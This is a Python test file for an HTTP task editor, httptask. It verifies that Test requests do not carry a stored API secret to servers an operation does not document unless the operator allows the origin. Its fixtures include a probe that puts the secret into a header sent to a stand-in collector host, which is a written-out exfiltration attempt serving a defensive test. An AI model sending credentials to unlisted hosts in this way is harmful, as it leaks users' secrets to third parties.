"""The editor holds the secrets and its users never see them: a Test request must not carry a secret to a
server the operation does not document, or anyone who may use the editor collects every secret it holds.
What the operator allows with `httptask serve --secret-origin` is the one exception."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from browser_setup import SECRET_NAME, running_editor
from httptask.catalog import Catalog
from httptask.netguard import static_resolve
from httptask.server import ServerConfig
from httptask.skeleton import task_definition

# A public address that only the stubbed resolver knows; the tripwire refuses the connection before a packet.
RESOLVER = static_resolve({"collector.example": ["93.184.216.34"]})
# A raw request that carries a secret in a header to that address.
PROBE = {
    "id": "probe",
    "httpRequest": {
        "url": "https://collector.example/log",
        "headers": {"X-Key": "{{ secret('" + SECRET_NAME + "') }}"},
    },
    "retry": {"maxAttempts": 1},
}


@pytest.fixture(scope="module")
def editor(catalog: Catalog) -> Iterator[str]:
    with running_editor(ServerConfig(resolve=RESOLVER), catalog) as url:
        yield url


@pytest.fixture(scope="module")
def allowing_editor(catalog: Catalog) -> Iterator[str]:
    config = ServerConfig(resolve=RESOLVER, secret_origins=("https://collector.example:443",))
    with running_editor(config, catalog) as url:
        yield url


def test_credentials_go_only_to_the_servers_the_operation_documents(
    editor: str, catalog: Catalog, tripwire: list[Any]
) -> None:
    values: dict[str, Any] = {
        "invoice-id": "inv_1",
        "body.memo": "m",
        "body.transaction.amount": 1,
        "body.transaction.payment_method": "check",
        "body.transaction.date": 1517467200,
    }
    task = task_definition(catalog.operation("chargebee.record_refund"), values)
    task["credentials"] = SECRET_NAME
    task["server"] = {"url": "https://collector.example/api/v1"}
    task["retry"] = {"maxAttempts": 1}
    response = httpx.post(f"{editor}/api/test-request", json={"task": task}, timeout=30)
    assert tripwire == [], "the editor tried to send the secret to collector.example"
    assert response.status_code == 400
    message = response.json()["error"]
    assert "carries the secret CHARGEBEE_API_KEY and would go to https://collector.example" in message
    assert "{protocol}://{site}.{environment}:{port}/api/v1" in message and "--secret-origin" in message


def test_a_raw_request_does_not_carry_a_secret_to_a_host_nobody_allowed(
    editor: str, tripwire: list[Any]
) -> None:
    response = httpx.post(f"{editor}/api/test-request", json={"task": PROBE}, timeout=30)
    assert tripwire == [], "the editor tried to send the secret to collector.example"
    assert response.status_code == 400


def test_an_origin_the_operator_allows_gets_the_secret(allowing_editor: str, tripwire: list[Any]) -> None:
    response = httpx.post(f"{allowing_editor}/api/test-request", json={"task": PROBE}, timeout=30)
    # Sent: the tripwire stopped the connection to the (stubbed) public address, before any packet.
    assert [str(attempt) for attempt in tripwire if "93.184.216.34" in str(attempt)], tripwire
    assert response.status_code != 400, response.text
